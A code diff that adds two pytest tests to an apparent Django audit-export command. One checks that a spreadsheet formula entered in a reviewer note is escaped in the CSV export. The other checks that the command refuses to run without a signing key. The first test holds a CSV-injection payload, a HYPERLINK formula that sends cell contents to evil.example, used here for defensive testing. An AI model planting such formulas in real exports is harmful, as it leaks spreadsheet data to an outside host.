@@ -418,3 +418,33 @@ def test_the_command_writes_a_pack_of_one_agent(db: Any, tmp_path: Path) -> None
     with zipfile.ZipFile(path) as z:
         agents = {json.loads(x)["run"]["agent"] for x in z.read("runs.jsonl").splitlines()[1:-1]}
     assert agents == {"alpha"}
+
+
+def test_a_note_a_spreadsheet_would_run_is_defused_and_still_verifies(
+    db: Any, tmp_path: Path
+) -> None:
+    groups_ready()
+    carol = user_in(ADMINS, "carol")
+    killed = killed_support_run()
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    review_step_resolve(user=carol, run_id=killed.run_id, index=2, action="sent", note=formula)
+
+    pack = _pack(tmp_path / "formula.zip")
+
+    (row,) = _rows(pack, "decisions.csv")
+    assert row["note"] == "'" + formula and row["role"] == "admins"
+    assert verify_pack(str(pack), [load_public_key(PUBLIC_KEY)]).ok
+
+
+def test_without_a_signing_key_the_command_refuses_and_writes_nothing(
+    db: Any, tmp_path: Path, settings: Any
+) -> None:
+    from django.core.management import CommandError, call_command
+
+    settings.AUDIT_SIGNING_KEY = ""
+    settings.DEBUG = False
+    today = timezone.now().date().isoformat()
+    path = tmp_path / "none.zip"
+    with pytest.raises(CommandError, match="generate_signing_key"):
+        call_command("evidence_pack", "--from", today, "--to", today, "-o", str(path))
+    assert list(tmp_path.iterdir()) == []
